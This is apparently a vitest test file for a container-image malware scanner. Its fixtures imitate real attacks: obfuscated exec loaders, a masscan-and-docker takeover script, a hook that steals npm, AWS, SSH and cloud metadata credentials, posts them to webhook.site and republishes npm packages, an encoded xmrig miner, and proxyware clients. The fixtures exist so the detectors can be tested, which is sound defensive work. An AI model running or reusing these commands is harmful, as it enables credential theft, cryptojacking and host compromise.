import { deflateSync } from 'node:zlib';
import { beforeAll, expect, test } from 'vitest';
import { useGrammarFiles } from '../grammar-files.ts';
import { sceneOf } from '../testing/scene.ts';
import { madeUpWallet } from '../testing/wallet.ts';

/** Images shaped like published incidents, inert: documentation addresses, reserved names, made-up wallets, stubs. */
beforeAll(() => useGrammarFiles());

async function worstOf(image: Parameters<typeof sceneOf>[0]) {
  const { findings, story } = await sceneOf(image);
  const by = (detector: string) => findings.find((finding) => finding.detector === detector)?.severity;
  return { findings, story, by, severities: findings.map(({ severity }) => severity) };
}

/** One line of Python that undoes `rounds` rounds of reversing, base64 and zlib: the shape of an image of April 2025. */
function nested(code: string, rounds: number): string {
  let text = code;
  for (let round = 0; round < rounds; round += 1) {
    const packed = [...deflateSync(text).toString('base64')].reverse().join('');
    text = `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${packed}'))`;
  }
  return text;
}

test.each([1, 3, 20])(
  'f14: one line of exec, %i rounds of encoding, a heart-beat inside and no miner',
  async (rounds) => {
    const heartBeat =
      "import requests, time\nwhile True:\n    requests.post('https://secure.ws.example/beat', json={'type': 'PING'})\n    time.sleep(10)\n";
    const { by, story } = await worstOf({
      cmd: ['python3', '/app/ten.py'],
      files: { '/app/ten.py': nested(heartBeat, rounds) },
    });
    expect(story.stages.some(({ text }) => text.includes('heart') || text.includes('PING'))).toBe(true);
    expect(
      story.effects.some((effect) => effect.kind === 'fetch' && effect.url.includes('https://secure.ws.example/beat')),
    ).toBe(true);
    expect(by('decode-and-run')).toBe(rounds === 1 ? 'suspicious' : 'malicious');
  },
);

test('f12: the server in a variable, sweeping at start', async () => {
  const { by } = await worstOf({
    env: ['HTTP_SOURCE=https://aaaa-3.ngrok.io'],
    entrypoint: ['/run.sh'],
    files: {
      '/run.sh': {
        content:
          "#!/bin/sh\nmasscan -p2375,2376 --rate 10000 203.0.113.0/24 | awk '{print $6}' | while read ip; do zgrab2 http --port 2375; docker -H tcp://$ip:2375 run -d --privileged -v /:/host alpine sh; done\n",
        mode: 0o755,
      },
    },
  });
  expect(by('throwaway-address')).toBe('suspicious');
  expect(by('network-sweep')).toBe('malicious');
});

test('f16: its instructions hand over the host, in a label, an annotation or a README', async () => {
  const line = 'docker run --rm -d --privileged --net host -v /:/host someones/app';
  for (const image of [
    { labels: { RUN: line } },
    { labels: { 'org.opencontainers.image.description': `Usage: ${line}` } },
    { files: { '/app/README.md': `# Run\n\n\`\`\`\n${line}\n\`\`\`\n` } },
  ]) {
    const { by } = await worstOf(image);
    expect(by('asks-for-host')).toBe('suspicious');
  }
});

test('b01: an openly labelled miner is suspicious, and says so; the same one encoded is malicious', async () => {
  const wallet = madeUpWallet('b01');
  const run = `xmrig -o pool.mine.example:3333 -u ${wallet} --donate-level 1`;
  const open = await worstOf({ name: 'docker.io/someones/xmrig:6', cmd: ['sh', '-c', run] });
  expect(open.severities.filter((severity) => severity === 'malicious')).toEqual([]);
  expect(open.by('miner')).toBe('suspicious');
  const hidden = await worstOf({
    name: 'docker.io/someones/xmrig:6',
    cmd: ['sh', '-c', `echo ${btoa(run)} | base64 -d | sh`],
  });
  expect(hidden.by('miner')).toBe('malicious');
});

test('a thief in the shape of 2025: credentials, metadata, a worm of a registry, all in one hook', async () => {
  const { by } = await worstOf({
    cmd: [
      'sh',
      '-c',
      [
        'D=/tmp/.c; mkdir -p $D',
        'cp ~/.npmrc ~/.aws/credentials ~/.config/gcloud/application_default_credentials.json $D/ 2>/dev/null',
        'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ > $D/imds',
        'tar czf /tmp/d.tgz ~/.npmrc ~/.aws ~/.ssh $D',
        'curl -s -F f=@/tmp/d.tgz https://webhook.site/0',
        'npm whoami && npm publish',
      ].join('\n'),
    ],
  });
  expect(by('exfiltration')).toBe('malicious');
  expect(by('credential-gathering')).toBe('malicious');
  expect(by('package-worm')).toBe('malicious');
  expect(by('metadata-credentials')).toBeDefined();
});

test('proxyjacking: several clients in the background of somebody’s web server', async () => {
  const { findings } = await worstOf({
    name: 'docker.io/someones/wordpress:6',
    entrypoint: ['/docker-entrypoint.sh'],
    files: {
      '/docker-entrypoint.sh': {
        content: [
          '#!/bin/bash',
          'export CID=abcd P2P_EMAIL=a@box.example',
          'nohup /usr/lib/.x/psclient >/dev/null 2>&1 &',
          'nohup /usr/lib/.x/p2pclient --login "$P2P_EMAIL" >/dev/null 2>&1 &',
          '/usr/lib/.x/php-fpm -email=a@box.example -password=x -device-name=w -accept-tos &',
          'exec apache2-foreground',
        ].join('\n'),
        mode: 0o755,
      },
    },
  });
  const own = findings.filter(({ detector }) => detector === 'proxyware');
  expect(own).toHaveLength(3);
  expect(own.every(({ severity }) => severity === 'malicious')).toBe(true);
});
